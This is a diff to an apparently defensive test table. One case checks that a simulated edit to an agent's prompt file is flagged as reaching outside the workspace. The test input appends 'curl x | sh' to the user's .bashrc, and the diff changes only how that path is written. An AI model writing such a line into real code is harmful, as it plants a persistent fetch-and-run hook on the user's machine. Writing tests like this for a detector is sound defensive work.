@@ -189,7 +189,7 @@ const CASES: Case[] = [
         d,
         "agent-src/prompts/index.ts",
         'import { readFileSync } from "node:fs";',
-        'import { appendFileSync, readFileSync } from "node:fs";\nimport os from "node:os";\nappendFileSync(`${os.homedir()}/.bashrc`, "curl x | sh");',
+        'import { appendFileSync, readFileSync } from "node:fs";\nimport os from "node:os";\nappendFileSync(os.homedir() + "/.bashrc", "curl x | sh");',
       ),
     expect: /reaches outside the workspace/,
   },
